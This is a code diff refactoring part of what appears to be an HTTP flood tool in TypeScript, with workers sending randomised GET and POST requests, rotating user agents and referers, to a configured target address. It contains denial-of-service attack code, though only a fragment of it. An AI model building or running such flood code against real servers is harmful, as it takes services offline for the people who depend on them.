@@ -10,9 +10,8 @@ import http from 'node:http';
 import { SeededRandom } from '../random.ts';
 import { REFERERS, USER_AGENTS } from '../agents/user-agents.ts';
 import { RateLimiter } from './rate-limiter.ts';
-import { createCounters, hostHeader, printResult, readAttackConfig, stopSignal } from './http-flood-common.ts';
+import { createCounters, hostHeader, printResult, readAttackConfig, sendCountedRequest, stopSignal } from './http-flood-common.ts';
 
-const REQUEST_TIMEOUT_MS = 5_000;
 const SOCKETS_PER_WORKER = 2;
 const POST_SHARE = 0.1;
 
@@ -42,28 +41,12 @@ function oneRequest(agent: http.Agent, random: SeededRandom): Promise<void> {
     headers['Content-Type'] = 'application/x-www-form-urlencoded';
     headers['Content-Length'] = String(body.length);
   }
-  counters.requests++;
-  return new Promise((resolve) => {
-    const req = http.request({ host: config.targetAddress, port: config.port, method: isPost ? 'POST' : 'GET', path: randomPath(random), headers, agent, timeout: REQUEST_TIMEOUT_MS }, (res) => {
-      res.resume();
-      res.on('end', () => {
-        counters.responses++;
-        resolve();
-      });
-      res.on('error', () => resolve());
-    });
-    req.on('timeout', () => req.destroy(new Error('timeout')));
-    req.on('error', () => {
-      counters.errors++;
-      resolve();
-    });
-    req.end(body);
-  });
+  const method = isPost ? 'POST' : 'GET';
+  return sendCountedRequest({ host: config.targetAddress, port: config.port, method, path: randomPath(random), headers, agent }, counters, body);
 }
 
 async function worker(random: SeededRandom): Promise<void> {
   const agent = new http.Agent({ keepAlive: true, maxSockets: SOCKETS_PER_WORKER });
-  agent.on('free', () => undefined);
   const lanes = Array.from({ length: SOCKETS_PER_WORKER }, async () => {
     while (!signal.aborted) {
       await limiter.take();
